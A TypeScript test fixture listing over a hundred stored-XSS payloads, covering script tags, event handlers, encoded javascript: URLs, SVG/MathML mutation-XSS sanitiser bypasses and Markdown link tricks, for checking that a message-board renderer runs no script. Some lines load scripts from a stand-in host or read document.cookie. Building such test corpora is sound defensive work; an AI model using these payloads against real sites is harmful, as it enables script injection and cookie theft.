/**
 * Stored-XSS payloads for the message-board renderer, in the style of the OWASP XSS Filter Evasion Cheat Sheet,
 * plus Markdown-specific tricks and known sanitiser (mutation XSS) bypasses. Shared by the unit tests and, later,
 * a browser test that renders each one and checks that no script ran.
 */
export type XssPayload = { name: string; payload: string };

const ENTITY_JAVASCRIPT_DECIMAL =
  "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;";
const ENTITY_JAVASCRIPT_PADDED =
  "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041";
const ENTITY_JAVASCRIPT_HEX =
  "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29";
const SVG_SCRIPT_BASE64 = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pjwvc3ZnPg==";
const HTML_SCRIPT_BASE64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==";

export const XSS_CORPUS: readonly XssPayload[] = [
  // Script tags
  { name: "script tag", payload: "<script>alert(1)</script>" },
  { name: "script with src, upper case", payload: '<SCRIPT SRC="https://xss.example/xss.js"></SCRIPT>' },
  {
    name: "script with odd characters after the name",
    payload: '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
  },
  { name: "extra open angle bracket", payload: '<<SCRIPT>alert("XSS");//\\<</SCRIPT>' },
  { name: "script without closing tag", payload: "<SCRIPT SRC=https://xss.example/xss.js?< B >" },
  { name: "protocol-relative script", payload: "<SCRIPT SRC=//xss.example/.j>" },
  { name: "end title, then script", payload: '</TITLE><SCRIPT>alert("XSS");</SCRIPT>' },
  { name: "broken nested script tags", payload: "<scr<script>ipt>alert(1)</scr</script>ipt>" },
  { name: "attribute breakout into script", payload: '"><script>alert(1)</script>' },
  { name: "quotes soup", payload: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>' },
  { name: "script inside textarea", payload: "<textarea><script>alert(1)</script></textarea>" },
  { name: "IE conditional comment", payload: "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->" },
  { name: "locator string", payload: "'';!--\"<XSS>=&{()}" },

  // Event handlers
  { name: "onmouseover on a link", payload: '<a onmouseover="alert(document.cookie)">xxs link</a>' },
  { name: "onclick on a link", payload: '<a href="#" onclick="alert(1)">x</a>' },
  { name: "img onerror", payload: "<img src=x onerror=alert(1)>" },
  { name: "img onerror with padded entities", payload: `<img src=x onerror="${ENTITY_JAVASCRIPT_PADDED}">` },
  { name: "img onmouseover", payload: "<IMG SRC=# onmouseover=\"alert('xxs')\">" },
  {
    name: "img onerror with fromCharCode",
    payload: '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  },
  { name: "img eval(src)", payload: "<img src=x:alert(alt) onerror=eval(src) alt=0>" },
  { name: "body onload", payload: "<BODY ONLOAD=alert('XSS')>" },
  { name: "body handler with symbols in the name", payload: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>' },
  { name: "unknown element with handler", payload: "<x onclick=alert(1)>click me" },
  { name: "details ontoggle", payload: "<details open ontoggle=alert(1)>" },
  { name: "video source onerror", payload: '<video><source onerror="alert(1)"></video>' },
  { name: "isindex onerror", payload: "<isindex type=image src=1 onerror=alert(1)>" },
  { name: "backtick-delimited attribute", payload: "<img src=`x` onerror=`alert(1)`>" },

  // javascript: URLs and their obfuscations
  { name: "img javascript: src", payload: "<IMG SRC=\"javascript:alert('XSS');\">" },
  { name: "img javascript: unquoted", payload: "<IMG SRC=javascript:alert('XSS')>" },
  { name: "img javascript: mixed case", payload: "<IMG SRC=JaVaScRiPt:alert('XSS')>" },
  { name: "img javascript: in backticks", payload: "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>" },
  { name: "img decimal entities", payload: `<IMG SRC=${ENTITY_JAVASCRIPT_DECIMAL}>` },
  { name: "img hex entities without semicolons", payload: `<IMG SRC=${ENTITY_JAVASCRIPT_HEX}>` },
  { name: "link with decimal entities", payload: `<a href="${ENTITY_JAVASCRIPT_DECIMAL}">x</a>` },
  { name: "embedded tab", payload: "<IMG SRC=\"jav\tascript:alert('XSS');\">" },
  { name: "encoded tab in a link", payload: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: "encoded newline", payload: "<a href=\"jav&#x0A;ascript:alert('XSS');\">x</a>" },
  { name: "encoded carriage return", payload: "<a href=\"jav&#x0D;ascript:alert('XSS');\">x</a>" },
  { name: "null byte in scheme", payload: '<a href="java\0script:alert(1)">x</a>' },
  { name: "leading spaces and control entity", payload: "<a href=\" &#14;  javascript:alert('XSS');\">x</a>" },
  { name: "one entity inside the scheme", payload: '<a href="javas&#99;ript:alert(1)">x</a>' },
  { name: "entity colon", payload: '<a href="javascript&#x3A;alert(1)">x</a>' },
  { name: "named entity colon", payload: '<a href="&#x6A;avascript&colon;alert(1)">x</a>' },
  { name: "JavaScript-style unicode escape", payload: '<a href="\\u006Aavascript:alert(1)">x</a>' },
  { name: "vbscript: link", payload: "<a href=\"vbscript:msgbox('XSS')\">x</a>" },
  { name: "data: HTML link", payload: `<a href="data:text/html;base64,${HTML_SCRIPT_BASE64}">x</a>` },
  { name: "input image javascript:", payload: '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">' },
  { name: "body background", payload: "<BODY BACKGROUND=\"javascript:alert('XSS')\">" },
  { name: "img dynsrc", payload: "<IMG DYNSRC=\"javascript:alert('XSS')\">" },
  { name: "bgsound", payload: "<BGSOUND SRC=\"javascript:alert('XSS');\">" },
  { name: "table background", payload: "<TABLE BACKGROUND=\"javascript:alert('XSS')\">" },
  { name: "base href", payload: "<BASE HREF=\"javascript:alert('XSS');//\">" },

  // Frames, objects, SVG, MathML
  { name: "iframe javascript:", payload: "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>" },
  { name: "iframe srcdoc", payload: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: "iframe with trailing open angle", payload: "<iframe src=https://xss.example/scriptlet.html <" },
  { name: "frameset", payload: "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>" },
  {
    name: "object scriptlet",
    payload: '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
  },
  { name: "object javascript: data", payload: '<object data="javascript:alert(1)"></object>' },
  {
    name: "embed data: SVG",
    payload: `<EMBED SRC="data:image/svg+xml;base64,${SVG_SCRIPT_BASE64}" type="image/svg+xml">`,
  },
  { name: "svg onload", payload: "<svg/onload=alert('XSS')>" },
  { name: "svg script", payload: "<svg><script>alert(1)</script></svg>" },
  {
    name: "svg xlink:href",
    payload: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  },
  { name: "svg animate onbegin", payload: "<svg><animate onbegin=alert(1) attributeName=x dur=1s>" },
  { name: "MathML mglyph style mXSS", payload: "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>" },
  { name: "noscript title mXSS", payload: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  {
    name: "form in MathML mXSS",
    payload: "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  },

  // Style, expression, meta refresh, link
  {
    name: "style list-style-image",
    payload: "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
  },
  { name: "style @import", payload: "<STYLE>@import'https://xss.example/xss.css';</STYLE>" },
  { name: "div background-image", payload: "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">" },
  { name: "div expression", payload: "<DIV STYLE=\"width: expression(alert('XSS'));\">" },
  { name: "expression split by a comment", payload: "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">" },
  { name: "expression with CSS escape", payload: '<div style="x:\\65 xpression(alert(1))">x</div>' },
  { name: "behavior url", payload: '<XSS STYLE="behavior: url(xss.htc);">' },
  { name: "link stylesheet", payload: '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">' },
  {
    name: "meta refresh javascript:",
    payload: '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  },
  {
    name: "meta refresh data:",
    payload: `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,${HTML_SCRIPT_BASE64}">`,
  },

  // Markdown links and images
  { name: "markdown javascript: link", payload: "[x](javascript:alert(1))" },
  { name: "markdown javascript: mixed case", payload: "[x](JaVaScRiPt:alert(1))" },
  { name: "markdown javascript: upper case", payload: "[x](JAVASCRIPT:alert(1))" },
  { name: "markdown entity colon", payload: "[x](javascript&#58;alert(1))" },
  { name: "markdown named entity colon", payload: "[x](javascript&colon;alert(1))" },
  { name: "markdown entity first letter", payload: "[x](&#106;avascript:alert(1))" },
  { name: "markdown entity tab", payload: "[x](jav&#x09;ascript:alert(1))" },
  { name: "markdown percent-encoded letter", payload: "[x](java%73cript:alert(1))" },
  { name: "markdown line separator", payload: "[x](java\u2028script:alert(1))" },
  { name: "markdown full-width scheme", payload: "[x](ｊａｖａｓｃｒｉｐｔ:alert(1))" },
  { name: "markdown javascript with comment newline", payload: "[x](javascript://%0aalert(1))" },
  { name: "markdown angle-bracket destination", payload: "[x](<javascript:alert(1)>)" },
  { name: "markdown angle-bracket destination with spaces", payload: "[x](< javascript:alert(1)>)" },
  { name: "markdown data: link", payload: `[x](data:text/html;base64,${HTML_SCRIPT_BASE64})` },
  { name: "markdown vbscript: link", payload: "[x](vbscript:msgbox(1))" },
  { name: "markdown reference to javascript:", payload: "[a][ref]\n\n[ref]: javascript:alert(1)" },
  {
    name: "markdown reference title breakout",
    payload: '[a][ref]\n\n[ref]: https://example.com "x\\" onmouseover=\\"alert(1)"',
  },
  { name: "markdown link title breakout", payload: "[x](https://example.com 'title\" onmouseover=\"alert(1)')" },
  { name: "markdown link destination quote breakout", payload: '[x](https://example.com" onclick="alert(1))' },
  { name: "markdown link destination backticks", payload: "[x](https://example.com/`onmouseover=alert(1)`)" },
  { name: "markdown image onerror breakout", payload: '![x](x" onerror="alert(1))' },
  { name: "markdown image javascript:", payload: "![x](javascript:alert(1))" },
  { name: "markdown image data: SVG", payload: `![x](data:image/svg+xml;base64,${SVG_SCRIPT_BASE64})` },
  { name: "markdown image tracking pixel", payload: "![](https://tracker.example/pixel.gif)" },
  { name: "markdown image inside a link", payload: "[![x](https://tracker.example/a.png)](https://example.com)" },
  { name: "markdown autolink javascript:", payload: "<javascript:alert(1)>" },
  { name: "markdown autolink quote breakout", payload: '<https://example.com/"onmouseover="alert(1)>' },
  { name: "markdown HTML inside link text", payload: "[<img src=x onerror=alert(1)>](https://example.com)" },
  { name: "markdown HTML inside bold", payload: "**<img src=x onerror=alert(1)>**" },
  { name: "linkified URL with script", payload: "https://example.com/<script>alert(1)</script>" },
  { name: "linkified URL with quote", payload: 'https://example.com/" onmouseover="alert(1)' },
  { name: "inline code with script", payload: "`<script>alert(1)</script>`" },
  { name: "fenced code with script", payload: "```html\n<script>alert(1)</script>\n```" },
  { name: "fence info string breakout", payload: '```js" onmouseover="alert(1)\ncode\n```' },
  {
    name: "nested quotes with script and link",
    payload: "> <script>alert(1)</script>\n>> [x](javascript:alert(1))\n>>> <svg onload=alert(1)>",
  },
  { name: "list item with raw link", payload: '- <a href="javascript:alert(1)">x</a>\n- two' },
  { name: "HTML comment then script", payload: "[x](https://example.com)<!-- --><script>alert(1)</script>" },
];
